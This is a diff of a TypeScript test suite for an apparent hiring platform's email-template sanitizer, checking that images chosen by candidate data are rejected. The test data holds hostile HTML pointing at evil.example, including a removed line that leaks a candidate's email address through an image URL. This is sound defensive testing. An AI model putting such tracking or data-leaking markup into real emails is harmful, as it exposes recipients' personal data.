@@ -5,6 +5,7 @@ import { eventually } from '../../../test/eventually.ts';
 import { type Caller, type Json, startService, type TestWorkspace } from '../../../test/harness.ts';
 import { makeCandidate, makeJob } from '../../../test/hiring.ts';
 import { sql } from '../../platform/database/sql.ts';
+import { fixedImages } from '../../platform/email/clean-html.ts';
 import { revealToken } from './redacted-token.ts';
 
 // Without a mail server and workers, so that queued emails remain.
@@ -277,9 +278,31 @@ describe('the HTML of the other emails', () => {
       assert.equal((await workspace.api('PUT', path, { ...words, html })).body.error?.details?.field, 'html', html);
   });
 
+  it('loads the same images for everyone: none that data could select', async () => {
+    const workspace = await service.workspace();
+    const logo = '<img src="https://acme.example/logo.png" alt="Acme" />';
+    const one = (name: string) => `<img src="https://evil.example/${name}.png">`;
+    const conditional = [
+      `{% if candidate.firstName == 'Eve' %}${one('eve')}{% else %}${one('other')}{% endif %}`,
+      `{% for n in (1..3) %}${one('n')}{% endfor %}`,
+      `${one('a')}{% if candidate.firstName == 'Eve' %}${one('a')}{% endif %}`,
+      `{% if candidate.firstName == 'Eve' %}<!--{% endif %}${one('a')}{% if candidate.firstName == 'Eve' %}-->{% endif %}`,
+    ];
+    const words = { subject: 'x', text: 'x' };
+    for (const html of conditional) {
+      const put = await workspace.api('PUT', '/email-templates/application_rejected', { ...words, html });
+      assert.equal(put.body.error?.details?.field, 'html', html);
+      const template = await workspace.api('POST', '/message-templates', { name: 'Conditional', ...words, html });
+      assert.equal(template.body.error?.details?.field, 'html', html);
+      assert.deepEqual(fixedImages(html), new Set(), 'also when a template that was stored before is sent');
+    }
+    const html = `${logo}{% if candidate.firstName == 'Eve' %}<p>Hi</p>{% endif %}`;
+    assert.equal((await workspace.api('PUT', '/email-templates/application_rejected', { ...words, html })).status, 200);
+  });
+
   it('loads nothing from conditional parts that the sample data does not render', async () => {
     const workspace = await service.workspace();
-    const html = `<p>Hi</p>{% if candidate.firstName == 'Eve' %}<img src="https://evil.example/?{{ candidate.email }}"><iframe src="https://evil.example/"></iframe>{% endif %}`;
+    const html = `<p>Hi</p>{% if candidate.firstName == 'Eve' %}<audio controls><object data="https://evil.example/"></object>{% endif %}`;
     const put = await workspace.api('PUT', '/email-templates/application_rejected', { subject: 'x', text: 'x', html });
     assert.equal(put.status, 200);
     const candidateId = await makeCandidate(workspace, {
